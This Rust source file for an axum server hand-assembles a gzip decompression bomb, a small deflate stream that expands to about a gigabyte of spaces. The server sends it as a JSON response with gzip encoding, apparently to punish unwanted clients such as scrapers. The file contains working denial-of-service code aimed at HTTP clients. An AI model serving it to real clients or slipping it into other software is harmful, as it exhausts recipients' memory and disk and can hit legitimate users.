//! A gzip bomb: little to send, a gigabyte to unpack. Written by hand, since it is nothing but one byte repeated.

use axum::body::{Body, Bytes};
use axum::response::Response;
use futures::StreamExt;
use http::header::{CONTENT_ENCODING, CONTENT_TYPE};

/// Matches of 258 bytes per chunk: a chunk unpacks to about a megabyte.
const MATCHES: usize = 4_064;
const CHUNKS: usize = 1_024;
/// The ten bytes every gzip stream may begin with.
const HEADER: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];

/// Bits in the order of deflate: lowest first.
#[derive(Default)]
struct Bits {
    bytes: Vec<u8>,
    used: u8,
}

impl Bits {
    fn push(&mut self, bit: bool) {
        if self.used == 0 {
            self.bytes.push(0);
        }
        if let (Some(last), true) = (self.bytes.last_mut(), bit) {
            *last |= 1 << self.used;
        }
        self.used = (self.used + 1) % 8;
    }

    /// A number, lowest bit first.
    fn number(&mut self, value: u32, width: u32) {
        (0..width).for_each(|n| self.push((value >> n) & 1 == 1));
    }

    /// A code word, highest bit first.
    fn word(&mut self, value: u32, width: u32) {
        (0..width)
            .rev()
            .for_each(|n| self.push((value >> n) & 1 == 1));
    }
}

/// A block of fixed codes that repeats a space, closed by an empty stored block so that it ends on a byte.
fn chunk() -> Bytes {
    let mut bits = Bits::default();
    bits.number(0, 1);
    bits.number(1, 2);
    // The literal 32, then length 258 at distance 1, again and again, then the end of the block.
    bits.word(0x30 + 32, 8);
    for _ in 0..MATCHES {
        bits.word(0b1100_0101, 8);
        bits.word(0, 5);
    }
    bits.word(0, 7);
    bits.number(0, 3);
    while bits.used != 0 {
        bits.push(false);
    }
    bits.bytes.extend([0, 0, 0xff, 0xff]);
    bits.bytes.into()
}

/// The answer. Its checksum is wrong, which nobody should live to see.
pub(super) fn answer() -> Response {
    let chunk = chunk();
    let head = futures::stream::iter([Bytes::from_static(&HEADER)]);
    let middle = futures::stream::iter(std::iter::repeat_n(chunk, CHUNKS));
    let end = futures::stream::iter([Bytes::from_static(&[3, 0, 0, 0, 0, 0, 0, 0, 0, 0])]);
    let body = head.chain(middle).chain(end).map(Ok::<_, std::io::Error>);
    let mut response = Response::new(Body::from_stream(body));
    let headers = response.headers_mut();
    headers.insert(
        CONTENT_TYPE,
        http::HeaderValue::from_static("application/json"),
    );
    headers.insert(CONTENT_ENCODING, http::HeaderValue::from_static("gzip"));
    response
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_chunk_is_small_and_unpacks_to_about_a_megabyte() {
        let size = chunk().len();
        assert!(size < 8_000, "{size}");
        const { assert!(MATCHES * 258 > 1_000_000) };
    }
}
